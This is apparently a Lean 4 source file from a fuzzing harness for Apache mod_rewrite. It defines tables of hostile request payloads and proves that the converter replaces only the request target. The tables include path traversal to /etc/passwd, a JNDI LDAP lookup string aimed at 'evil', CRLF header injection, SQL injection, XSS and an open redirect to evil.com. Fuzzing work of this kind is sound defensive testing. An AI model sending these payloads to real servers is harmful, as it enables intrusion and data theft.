import Apatchy.Converters.HttpRequest

/-!
# Rewriting the target of a request

`ApplyRewrite` puts another target into a serialised request, for the fuzzing of
`mod_rewrite`: a path of hundreds of segments or letters (`Apatchy.longPath`), or one of a
table of URIs with a query and with one of its segments replaced
(`Apatchy.overriddenUri`). It finds the target by the end of the first line and the first
two spaces in it (`Apatchy.replaceTarget`).

Which target a message asks for is said without the converter, as a relation
(`Apatchy.RewriteRequest.AsksFor`): it names the texts of the tables, the units of a long
path, and the segment that a mutation replaces. `Apatchy.applyRewrite_buildHttpRequest`: on
what `BuildHttpRequest` wrote for a URI and a version without blanks, this changes the target
and nothing else, and the target is the one that is asked for. Headers and body do not
matter, since the search stops before them.
-/

namespace Apatchy

/-! ### The message -/

/-- The enum `RewriteUri`, in the order of its numbers. -/
inductive RewriteUri
  | rwFooBar | rwTraversal | rwTraversalEnc | rwNullByte | rwPlainA | rwUpper | rwMixedCase
  | rwEncodedSlash | rwHyphen | rwAdminDeep | rwMultiNull | rwLongSegments | rwTest
  | rwAmpersandEnc | rwBClean | rwBTrack | rwBSetcookie | rwBChain | rwBDownload | rwBCgi
  | rwBShortX | rwBLongX | rwBXxxFoo | rwBCatchall | rwRoot | rwEmpty | rwCDeepTraversal
  | rwQsFragment | rwDMultiTraversal | rwDRewriteLoop | rwDControlChars | rwDOldSpaces
  | rwDUtf8 | rwDZwsp | rwDDoubleEnc | rwDDoubleEnc2 | rwLiteralSpace | rwOldHighbytes
  | rwCrlfInject | rwTrackVars | rwCookieDomain
deriving DecidableEq, Repr

/-- The enum `RewriteQueryString`, in the order of its numbers. -/
inductive RewriteQueryString
  | qsId42 | qsIdHuge | qsIdNeg | qsIdZero | qsIdAlpha | qsBareNeedle | qsManyParams
  | qsNullByte | qsCrlfInject | qsHelloWorld | qsRedirect | qsPathTraversal | qsEmpty
  | qsLongValue | qsNullNull | qsSqli | qsXss | qsDupeKeys
deriving DecidableEq, Repr

/-- The enum `SegMutation`, in the order of its numbers. -/
inductive SegMutation
  | segDotdot | segDot | segDotdotEnc | segNull | segAaaa | segNullMid | segJndi | segCrlf
  | segBackslash | segDoubleSlash | segA | segLongA
deriving DecidableEq, Repr

/-- The message `RewriteRequest`. -/
structure RewriteRequest where
  /-- The request. -/
  http : HttpRequest
  /-- Which URI to use. -/
  uriOverride : Option RewriteUri := none
  /-- Which query to append to it. -/
  queryOverride : Option RewriteQueryString := none
  /-- What to put in the place of one of its segments. -/
  pathSegmentMutation : Option SegMutation := none
  /-- Whether to use a long path. -/
  useLongPath : Option Bool := none
  /-- Which long path. -/
  longPathVariant : Option UInt32 := none
  /-- How long a path. -/
  longPathDepth : Option UInt32 := none

/-! ### The tables -/

/-- `uri_payloads`. -/
def uriPayloads : List String :=
  ["/a/foo/bar/baz", "/a/../../etc/passwd", "/a/%2e%2e/%2e%2e/etc/passwd", "/a/a%00b", "/a",
    "/a/HELLO", "/a/AbCdEfGhIjKlMnOpQrStUvWxYz", "/a/FOO%2FBAR", "/a/hello-world",
    "/a/admin/edit/12345", "/a/a%00b/c%0dd/e%0af",
    "/a/AAAAAAAAAAAAAAAA/BBBBBBBBBBBBBBBB/CCCCCCCCCCCCCCCC", "/a/test", "/a/foo%26bar=baz",
    "/b/clean/page", "/b/track/payload$1%\x7bQUERY_STRING\x7d",
    "/b/setcookie/value%3bsecure%3bhttponly", "/b/chain/data", "/b/download/file.dat",
    "/b/cgi/test.cgi", "/b/xxxxxxxxxx", "/b/xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "/b/xxxfoo",
    "/b/catchall/anything", "/", "", "/c/../../../etc/passwd", "/a?b#c",
    "/d/%2e%2e/%2e%2e/%2e%2e/%2e%2e/", "/d/rewrite/../rewrite/../rewrite",
    "/d/escape/%00%01%02%03%04%05%06%07%08%09%0a%0b%0c%0d%0e%0f",
    "/d/old/foo%20bar%09baz%0d%0aqux", "/d/upper/%C3%BC%C3%B6%C3%A4", "/d/search/%E2%80%8B",
    "/d/user/%252F/%252F/%252F", "/d/nested/%2500%2501%2502", "/escape/a b c d e f g h",
    "/old/foo%ff%fe%fd", "/chain/test%0d%0aX-Injected: yes",
    "/track/$1%\x7bQUERY_STRING\x7d%1%2%3", "/setcookie/val%3B%20domain%3D.evil.com"]

/-- `qs_payloads`. -/
def qsPayloads : List String :=
  ["id=42", "id=99999999999999999", "id=-1", "id=0", "id=abc", "needle",
    "a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8", "foo=bar%00baz",
    "key=%0d%0aInjected-Header:%20value", "q=hello+world&lang=en", "redirect=http://evil.com",
    "path=../../../etc/passwd", "",
    "a=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "%00=%00",
    "id=1%27%20OR%201%3D1", "term=<script>alert(1)</script>", "x=1&x=2&x=3&x=4&x=5"]

/-- `seg_mutations`. -/
def segMutations : List String :=
  ["..", ".", "%2e%2e", "%00", "AAAA", "a%00b", "$\x7bjndi:ldap://evil\x7d", "%0d%0a", "\\",
    "//", "a", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]

/-- An entry of a table, by a number reduced to its size. -/
def payload (table : List String) (n : ℕ) : List UInt8 :=
  ascii (table.getD (n % table.length) "")

/-! ### The target -/

/-- The long path of a variant and a depth. -/
def longPath (variant depth : ℕ) : List UInt8 :=
  if variant = 0 then
    (List.range depth).flatMap fun i => [slash, 97 + UInt8.ofNat (i % 26)]
  else if variant = 1 then
    slash :: (List.range depth).map fun i => 65 + UInt8.ofNat (i % 26)
  else if variant = 2 then slash :: List.replicate depth 120
  else (List.range depth).flatMap fun _ => ascii "/.."

/-- `depth`, brought between its bounds. -/
def clampDepth (depth : ℕ) : ℕ :=
  let depth := if depth < 10 then 10 else depth
  if depth > 500 then 500 else depth

/-- The first segment after a slash that is not the first byte, replaced. -/
def mutateSegment (seg uri : List UInt8) : List UInt8 :=
  match findFrom [slash] uri 1 with
  | none => uri
  | some i =>
    let next := (findFrom [slash] uri (i + 1)).getD uri.length
    replaceAt (i + 1) (next - i - 1) seg uri

/-- The chosen URI with its query. -/
def chosenUri (rw : RewriteRequest) (u : RewriteUri) : List UInt8 :=
  payload uriPayloads u.ctorIdx ++
    match rw.queryOverride with
    | none => []
    | some q => ascii "?" ++ payload qsPayloads q.ctorIdx

/-- **The target that `ApplyRewrite` puts into the request**, empty if there is none. -/
def overridingTarget (rw : RewriteRequest) : List UInt8 :=
  if rw.useLongPath = some true then
    longPath ((rw.longPathVariant.getD 0).toNat % 4) (clampDepth (rw.longPathDepth.getD 50).toNat)
  else
    match rw.uriOverride with
    | none => []
    | some u =>
      match rw.pathSegmentMutation with
      | none => chosenUri rw u
      | some m => mutateSegment (payload segMutations m.ctorIdx) (chosenUri rw u)

/-- The target of a serialised request, replaced: what is between the first two spaces of
its first line. -/
def replaceTarget (uri request : List UInt8) : List UInt8 :=
  match find crlf request with
  | none => request
  | some rlEnd =>
    let line := request.take rlEnd
    -- a line with fewer than two spaces stays as it is
    match find [space] line with
    | none => request
    | some sp1 =>
      match findFrom [space] line (sp1 + 1) with
      | none => request
      | some sp2 => replaceAt 0 rlEnd (line.take (sp1 + 1) ++ uri ++ line.drop sp2) request

/-- **`ApplyRewrite`.** -/
def applyRewrite (rw : RewriteRequest) (request : List UInt8) : List UInt8 :=
  let uri := overridingTarget rw
  if uri = [] then request else replaceTarget uri request

/-! ### The request line -/

/-- **The target of a request is replaced, and nothing else is.** -/
theorem replaceTarget_requestLine {method uri version : List UInt8} (hmethod : space ∉ method)
    (huri : space ∉ uri) (hline : 13 ∉ requestLine method uri version)
    (target rest : List UInt8) :
    replaceTarget target (requestLine method uri version ++ crlf ++ rest) =
      requestLine method target version ++ crlf ++ rest := by
  have hend : find crlf (requestLine method uri version ++ crlf ++ rest) =
      some (requestLine method uri version).length := find_field hline rest
  have hfirst := find_requestLine hmethod uri version []
  have hsecond := findFrom_requestLine huri method version []
  rw [List.append_nil] at hfirst hsecond
  have htake : (requestLine method uri version).take (method.length + 1) = method ++ [space] := by
    have hfront : method.length + 1 = (method ++ [space]).length := by simp
    rw [hfront, requestLine, List.append_assoc, List.append_assoc, List.take_left]
  have hdrop : (requestLine method uri version).drop (uri.length + (method.length + 1)) =
      [space] ++ version := by
    have hfront : uri.length + (method.length + 1) = (method ++ [space] ++ uri).length := by
      simp only [List.length_append, List.length_singleton]
      omega
    rw [hfront, requestLine, List.append_assoc (method ++ [space] ++ uri), List.drop_left]
  have hnew : method ++ [space] ++ target ++ ([space] ++ version) =
      requestLine method target version := by simp [requestLine]
  simp only [replaceTarget, hend]
  rw [List.append_assoc (requestLine method uri version), List.take_left]
  simp only [hfirst, hsecond, htake, hdrop, hnew]
  rw [replaceAt, List.take_zero, Nat.zero_add, List.drop_left, List.nil_append, List.append_assoc]

/-- What `BuildHttpRequest` writes begins with the line of the request. -/
theorem exists_buildHttpRequest (req : HttpRequest) :
    ∃ rest, buildHttpRequest req =
      requestLine (ascii req.method.toText) (absoluteUri req.uri) req.version ++ crlf ++ rest := by
  refine ⟨headerLines req.headers ++
    (if hasHeader "host" req.headers then [] else ascii "Host: localhost\r\n") ++
    (if req.body.isSome ∧ (req.body.getD []).length > 0 ∧
      ¬ hasHeader "content-length" req.headers then
      ascii "Content-Length: " ++ toDecimal (req.body.getD []).length ++ crlf else []) ++
    crlf ++ req.body.getD [], ?_⟩
  simp only [buildHttpRequest, requestLine, HttpRequest.version, List.append_assoc]

/-- **`ApplyRewrite` after `BuildHttpRequest`**: the target is replaced, if there is another. -/
theorem applyRewrite_target {req : HttpRequest} (hspace : space ∉ req.uri) (hcr : 13 ∉ req.uri)
    (hversion : 13 ∉ req.version) (rw : RewriteRequest) :
    ∃ rest,
      buildHttpRequest req =
        requestLine (ascii req.method.toText) (absoluteUri req.uri) req.version ++ crlf ++ rest ∧
      applyRewrite rw (buildHttpRequest req) =
        requestLine (ascii req.method.toText)
          (if overridingTarget rw = [] then absoluteUri req.uri else overridingTarget rw)
          req.version ++ crlf ++ rest := by
  obtain ⟨rest, hbuild⟩ := exists_buildHttpRequest req
  refine ⟨rest, hbuild, ?_⟩
  have hmethod : space ∉ ascii req.method.toText := HttpRequest.toText_not_mem _ (.inr rfl)
  have huri : space ∉ absoluteUri req.uri := HttpRequest.not_mem_absoluteUri (by decide) hspace
  have hline : 13 ∉ requestLine (ascii req.method.toText) (absoluteUri req.uri) req.version := by
    have hblank : (13 : UInt8) ∉ [space] := by decide
    simp only [requestLine, List.mem_append, not_or]
    exact ⟨⟨⟨⟨HttpRequest.toText_not_mem _ (.inl rfl), hblank⟩,
      HttpRequest.not_mem_absoluteUri (by decide) hcr⟩, hblank⟩, hversion⟩
  simp only [applyRewrite]
  split_ifs with hnone
  · exact hbuild
  · rw [hbuild]
    exact replaceTarget_requestLine hmethod huri hline _ rest

/-! ### The target that is asked for -/

/-- One unit of a long path: a segment, or a letter. -/
def pathUnit (variant i : ℕ) : List UInt8 :=
  if variant = 0 then [0x2F, 0x61 + UInt8.ofNat (i % 26)]
  else if variant = 1 then [0x41 + UInt8.ofNat (i % 26)]
  else if variant = 2 then ascii "x"
  else ascii "/.."

/-- **A segment is replaced**: the first that a slash behind the first byte begins, up to the
next slash or the end; nothing where there is no such slash. -/
inductive SegmentReplaced (seg : List UInt8) : List UInt8 → List UInt8 → Prop
  | nothing (uri : List UInt8) : 0x2F ∉ uri.drop 1 → SegmentReplaced seg uri uri
  | segment (front segment back : List UInt8) : front ≠ [] → 0x2F ∉ front.drop 1 →
      0x2F ∉ segment → back = [] ∨ [0x2F] <+: back →
      SegmentReplaced seg (front ++ [0x2F] ++ segment ++ back) (front ++ [0x2F] ++ seg ++ back)

/-- The string that follows a URI: a query behind a question mark, if one is asked for. -/
inductive QueryAsked : Option RewriteQueryString → List UInt8 → Prop
  | none : QueryAsked none []
  | query (q : RewriteQueryString) (text : String) : qsPayloads[q.ctorIdx]? = some text →
      QueryAsked (some q) (0x3F :: ascii text)

/-- What a mutation, if one is asked for, makes of a URI. -/
inductive MutationAsked : Option SegMutation → List UInt8 → List UInt8 → Prop
  | none (uri : List UInt8) : MutationAsked none uri uri
  | mutation (m : SegMutation) (seg : String) (uri uri' : List UInt8) :
      segMutations[m.ctorIdx]? = some seg → SegmentReplaced (ascii seg) uri uri' →
      MutationAsked (some m) uri uri'

/-- **The target that a message asks for**: a long path of 10 to 500 units, which variants 1
and 2 begin with a slash; or a payload, its query, and a mutation of the two; or nothing. -/
inductive RewriteRequest.AsksFor (rw : RewriteRequest) : List UInt8 → Prop
  | longPath (variant units : ℕ) : rw.useLongPath = some true →
      variant = (rw.longPathVariant.getD 0).toNat % 4 →
      units = max 10 (min 500 (rw.longPathDepth.getD 50).toNat) →
      AsksFor rw ((if variant = 1 ∨ variant = 2 then [0x2F] else []) ++
        (List.range units).flatMap (pathUnit variant))
  | uri (u : RewriteUri) (text : String) (query target : List UInt8) :
      rw.useLongPath ≠ some true → rw.uriOverride = some u → uriPayloads[u.ctorIdx]? = some text →
      QueryAsked rw.queryOverride query →
      MutationAsked rw.pathSegmentMutation (ascii text ++ query) target → AsksFor rw target
  | nothing : rw.useLongPath ≠ some true → rw.uriOverride = none → AsksFor rw []

/-! ### Long paths -/

/-- **A long path is as many units as it is deep.** -/
theorem longPath_eq (variant depth : ℕ) :
    longPath variant depth = (if variant = 1 ∨ variant = 2 then [0x2F] else []) ++
      (List.range depth).flatMap (pathUnit variant) := by
  by_cases h0 : variant = 0
  · subst h0
    rfl
  · by_cases h1 : variant = 1
    · subst h1
      have hunit : pathUnit 1 = fun i => [65 + UInt8.ofNat (i % 26)] := by
        funext i
        simp [pathUnit]
      simp [longPath, slash, hunit, List.map_eq_flatMap]
    · by_cases h2 : variant = 2
      · subst h2
        have hunit : pathUnit 2 = fun _ => [120] := by
          funext i
          rfl
        rw [hunit, ← List.map_eq_flatMap, List.map_const', List.length_range]
        rfl
      · have hunit : pathUnit variant = fun _ => ascii "/.." := by
          funext i
          simp [pathUnit, h0, h1, h2]
        simp [longPath, hunit, h0, h1, h2]

theorem clampDepth_eq (depth : ℕ) : clampDepth depth = max 10 (min 500 depth) := by
  simp only [clampDepth]
  split_ifs <;> omega

/-! ### Segments -/

/-- Without a slash behind the first byte there is no segment. -/
theorem mutateSegment_of_not_mem {uri : List UInt8} (huri : 0x2F ∉ uri.drop 1)
    (seg : List UInt8) : mutateSegment seg uri = uri := by
  have hfind : find [slash] (uri.drop 1) = none := by
    refine find_eq_none_iff.mpr ?_
    rintro ⟨a, b, hab⟩
    exact huri (hab ▸ by simp [slash])
  simp only [mutateSegment, findFrom, hfind, Option.map_none]

/-- **The segment between two slashes is replaced**, or the one behind the last slash. -/
theorem mutateSegment_segment {front segment back : List UInt8} (hfront : front ≠ [])
    (hfirst : 0x2F ∉ front.drop 1) (hsegment : 0x2F ∉ segment)
    (hback : back = [] ∨ [0x2F] <+: back) (seg : List UInt8) :
    mutateSegment seg (front ++ [0x2F] ++ segment ++ back) =
      front ++ [0x2F] ++ seg ++ back := by
  obtain ⟨c, a, rfl⟩ := List.exists_cons_of_ne_nil hfront
  -- The first slash looked for ends `front`.
  have hslash : findFrom [slash] (c :: a ++ [0x2F] ++ segment ++ back) 1 =
      some (a.length + 1) := by
    have hfound : findFrom [0x2F] ([c] ++ (a ++ [0x2F] ++ (segment ++ back))) [c].length =
        some (a.length + [c].length) := findFrom_field hfirst [c] (segment ++ back)
    simpa [slash] using hfound
  have hend : a.length + 1 + 1 = (c :: a ++ [0x2F]).length := by simp
  -- The next one is the first byte of what follows the segment, if there is one.
  have hnext : (findFrom [slash] (c :: a ++ [0x2F] ++ segment ++ back) (a.length + 1 + 1)).getD
      (c :: a ++ [0x2F] ++ segment ++ back).length = a.length + 1 + 1 + segment.length := by
    rw [findFrom, List.append_assoc _ segment, hend, List.drop_left]
    rcases hback with rfl | ⟨back, rfl⟩
    · have hnone : find [slash] (segment ++ []) = none := by
        refine find_eq_none_iff.mpr ?_
        rintro ⟨x, y, hxy⟩
        rw [List.append_nil] at hxy
        exact hsegment (hxy ▸ by simp [slash])
      rw [hnone]
      simp
      omega
    · have hfound : find [0x2F] (segment ++ [0x2F] ++ back) = some segment.length :=
        find_field hsegment back
      rw [List.append_assoc] at hfound
      rw [slash, hfound, ← hend, Option.map_some, Option.getD_some]
      omega
  have hlength : a.length + 1 + 1 + segment.length - (a.length + 1) - 1 = segment.length := by
    omega
  simp only [mutateSegment, hslash, hnext, hlength]
  rw [hend]
  exact replaceAt_append _ _ _ _

/-- **Where there is a segment to replace**, or that there is none. -/
theorem exists_segmentReplaced (seg uri : List UInt8) : ∃ uri', SegmentReplaced seg uri uri' := by
  by_cases hslash : 0x2F ∈ uri.drop 1
  · obtain ⟨a, b, hab, ha⟩ := List.eq_append_cons_of_mem hslash
    obtain ⟨c, uri, rfl⟩ : ∃ c cs, uri = c :: cs := by
      rcases uri with _ | ⟨c, cs⟩
      · simp at hslash
      · exact ⟨c, cs, rfl⟩
    obtain rfl : uri = a ++ 0x2F :: b := hab
    obtain ⟨segment, back, rfl, hsegment, hback⟩ : ∃ segment back, b = segment ++ back ∧
        0x2F ∉ segment ∧ (back = [] ∨ [0x2F] <+: back) := by
      by_cases hb : 0x2F ∈ b
      · obtain ⟨segment, rest, rfl, hsegment⟩ := List.eq_append_cons_of_mem hb
        exact ⟨segment, 0x2F :: rest, rfl, hsegment, .inr ⟨rest, rfl⟩⟩
      · exact ⟨b, [], by simp, hb, .inl rfl⟩
    have hreplaced : SegmentReplaced seg ((c :: a) ++ [0x2F] ++ segment ++ back)
        ((c :: a) ++ [0x2F] ++ seg ++ back) :=
      .segment (c :: a) segment back (by simp) ha hsegment hback
    exact ⟨_, by simpa using hreplaced⟩
  · exact ⟨uri, .nothing uri hslash⟩

/-- **The converter replaces the segment.** -/
theorem SegmentReplaced.eq_mutateSegment {seg uri uri' : List UInt8}
    (h : SegmentReplaced seg uri uri') : uri' = mutateSegment seg uri := by
  cases h with
  | nothing _ hno => exact (mutateSegment_of_not_mem hno seg).symm
  | segment front segment back hfront hfirst hsegment hback =>
    exact (mutateSegment_segment hfront hfirst hsegment hback seg).symm

theorem segmentReplaced_mutateSegment (seg uri : List UInt8) :
    SegmentReplaced seg uri (mutateSegment seg uri) := by
  obtain ⟨uri', huri'⟩ := exists_segmentReplaced seg uri
  rwa [← huri'.eq_mutateSegment]

/-! ### The whole converter -/

theorem payload_eq {table : List String} {n : ℕ} {text : String} (h : table[n]? = some text) :
    payload table n = ascii text := by
  obtain ⟨hn, rfl⟩ := List.getElem?_eq_some_iff.mp h
  rw [payload, Nat.mod_eq_of_lt hn, List.getD_eq_getElem?_getD, h, Option.getD_some]

/-- **The target that the converter puts in is the one that is asked for.** -/
theorem RewriteRequest.AsksFor.eq_overridingTarget {rw : RewriteRequest} {target : List UInt8}
    (h : rw.AsksFor target) : target = overridingTarget rw := by
  cases h with
  | longPath variant units hlong hvariant hunits =>
    rw [overridingTarget, if_pos hlong, longPath_eq, clampDepth_eq, ← hvariant, ← hunits]
  | uri u text query target hshort hu htext hquery hmutation =>
    have hchosen : chosenUri rw u = ascii text ++ query := by
      rw [chosenUri, payload_eq htext]
      generalize rw.queryOverride = asked at hquery ⊢
      cases hquery with
      | none => rfl
      | query q text hq =>
        simp only [payload_eq hq]
        rfl
    simp only [overridingTarget, if_neg hshort, hu, hchosen]
    generalize rw.pathSegmentMutation = asked at hmutation ⊢
    cases hmutation with
    | none => rfl
    | mutation m seg _ _ hseg hreplaced => simp [payload_eq hseg, hreplaced.eq_mutateSegment]
  | nothing hshort hnone => simp [overridingTarget, hshort, hnone]

/-- **Every message asks for a target**, perhaps for the empty one. -/
theorem RewriteRequest.exists_asksFor (rw : RewriteRequest) : ∃ target, rw.AsksFor target := by
  by_cases hlong : rw.useLongPath = some true
  · exact ⟨_, .longPath _ _ hlong rfl rfl⟩
  · rcases hu : rw.uriOverride with _ | u
    · exact ⟨_, .nothing hlong hu⟩
    · obtain ⟨text, htext⟩ : ∃ text, uriPayloads[u.ctorIdx]? = some text := by
        cases u <;> exact ⟨_, rfl⟩
      obtain ⟨query, hquery⟩ : ∃ query, QueryAsked rw.queryOverride query := by
        rcases rw.queryOverride with _ | q
        · exact ⟨_, .none⟩
        · obtain ⟨text, htext⟩ : ∃ text, qsPayloads[q.ctorIdx]? = some text := by
            cases q <;> exact ⟨_, rfl⟩
          exact ⟨_, .query q text htext⟩
      obtain ⟨target, htarget⟩ :
          ∃ target, MutationAsked rw.pathSegmentMutation (ascii text ++ query) target := by
        rcases rw.pathSegmentMutation with _ | m
        · exact ⟨_, .none _⟩
        · obtain ⟨seg, hseg⟩ : ∃ seg, segMutations[m.ctorIdx]? = some seg := by
            cases m <;> exact ⟨_, rfl⟩
          exact ⟨_, .mutation m seg _ _ hseg (segmentReplaced_mutateSegment _ _)⟩
      exact ⟨target, .uri u text query target hlong hu htext hquery htarget⟩

/-- **`ApplyRewrite` changes only the request target**: of the bytes that `BuildHttpRequest`
wrote, those between the two spaces of the first line become the target that the message asks
for, and they stay where it asks for none. It asks for one target, which is a long path of 10
to 500 units, or a payload with its query in which one segment is replaced. -/
theorem applyRewrite_buildHttpRequest {req : HttpRequest} (hspace : space ∉ req.uri)
    (hcr : 13 ∉ req.uri) (hversion : 13 ∉ req.version) (rw : RewriteRequest) :
    (∃! target, rw.AsksFor target) ∧
    ∃ uri rest, uri = (if [0x2F] <+: req.uri then req.uri else 0x2F :: req.uri) ∧
      buildHttpRequest req =
        req.method.name ++ ascii " " ++ uri ++ ascii " " ++ req.version ++ crlf ++ rest ∧
      ∀ target, rw.AsksFor target →
        applyRewrite rw (buildHttpRequest req) =
          req.method.name ++ ascii " " ++ (if target = [] then uri else target) ++ ascii " " ++
            req.version ++ crlf ++ rest := by
  constructor
  · obtain ⟨target, htarget⟩ := rw.exists_asksFor
    refine ⟨target, htarget, fun other hother => ?_⟩
    rw [htarget.eq_overridingTarget, hother.eq_overridingTarget]
  · have hblank : ascii " " = [space] := by decide
    obtain ⟨rest, hbuild, happly⟩ := applyRewrite_target hspace hcr hversion rw
    refine ⟨absoluteUri req.uri, rest, HttpRequest.absoluteUri_eq _, ?_, fun target htarget => ?_⟩
    · rw [hbuild, requestLine, HttpRequest.ascii_toText, hblank]
    · rw [happly, htarget.eq_overridingTarget, requestLine, HttpRequest.ascii_toText, hblank]

/-- A request whose body looks like the end of headers: with the second segment of a URI with
a query replaced, with a long path, and with a payload that is empty. -/
theorem applyRewrite_buildHttpRequest_blankBody :
    (∃ rest, buildHttpRequest blankBody = ascii "POST /x HTTP/1.1\r\n" ++ rest ∧
      applyRewrite ⟨blankBody, some .rwFooBar, some .qsId42, some .segDotdot, none, none, none⟩
        (buildHttpRequest blankBody) = ascii "POST /a/../bar/baz?id=42 HTTP/1.1\r\n" ++ rest) ∧
    (∃ rest, buildHttpRequest blankBody = ascii "POST /x HTTP/1.1\r\n" ++ rest ∧
      applyRewrite ⟨blankBody, some .rwRoot, none, none, some true, some 7, some 3⟩
        (buildHttpRequest blankBody) =
          ascii "POST /../../../../../../../../../.. HTTP/1.1\r\n" ++ rest) ∧
    ∃ rest, buildHttpRequest blankBody = ascii "POST /x HTTP/1.1\r\n" ++ rest ∧
      applyRewrite ⟨blankBody, some .rwEmpty, none, some .segA, none, none, none⟩
        (buildHttpRequest blankBody) = ascii "POST /x HTTP/1.1\r\n" ++ rest := by
  have hspace : space ∉ blankBody.uri := by decide
  have hcr : 13 ∉ blankBody.uri := by decide
  have hversion : 13 ∉ blankBody.version := by decide
  have hkept : blankBody.method.name ++ ascii " " ++ ascii "/x" ++ ascii " " ++
      blankBody.version ++ crlf = ascii "POST /x HTTP/1.1\r\n" := by decide
  refine ⟨?_, ?_, ?_⟩
  · obtain ⟨-, uri, rest, huri, hbuild, happly⟩ := applyRewrite_buildHttpRequest hspace hcr
      hversion ⟨blankBody, some .rwFooBar, some .qsId42, some .segDotdot, none, none, none⟩
    obtain rfl : uri = ascii "/x" := huri
    refine ⟨rest, hkept ▸ hbuild, ?_⟩
    have hsegment : SegmentReplaced (ascii "..") (ascii "/a/foo/bar/baz" ++ ascii "?id=42")
        (ascii "/a/../bar/baz?id=42") :=
      .segment (ascii "/a") (ascii "foo") (ascii "/bar/baz?id=42") (by decide) (by decide)
        (by decide) (.inr (by decide))
    rw [happly _ (.uri .rwFooBar "/a/foo/bar/baz" _ _ (by simp) rfl rfl (.query .qsId42 "id=42" rfl)
      (.mutation .segDotdot ".." _ _ rfl hsegment))]
    congr 1
  · obtain ⟨-, uri, rest, huri, hbuild, happly⟩ := applyRewrite_buildHttpRequest hspace hcr
      hversion ⟨blankBody, some .rwRoot, none, none, some true, some 7, some 3⟩
    obtain rfl : uri = ascii "/x" := huri
    refine ⟨rest, hkept ▸ hbuild, ?_⟩
    rw [happly _ (.longPath 3 10 rfl rfl rfl)]
    congr 1
  · obtain ⟨-, uri, rest, huri, hbuild, happly⟩ := applyRewrite_buildHttpRequest hspace hcr
      hversion ⟨blankBody, some .rwEmpty, none, some .segA, none, none, none⟩
    obtain rfl : uri = ascii "/x" := huri
    refine ⟨rest, hkept ▸ hbuild, ?_⟩
    rw [happly [] (.uri .rwEmpty "" _ _ (by simp) rfl rfl .none
      (.mutation .segA "a" _ _ rfl (.nothing _ (by decide))))]
    congr 1

end Apatchy
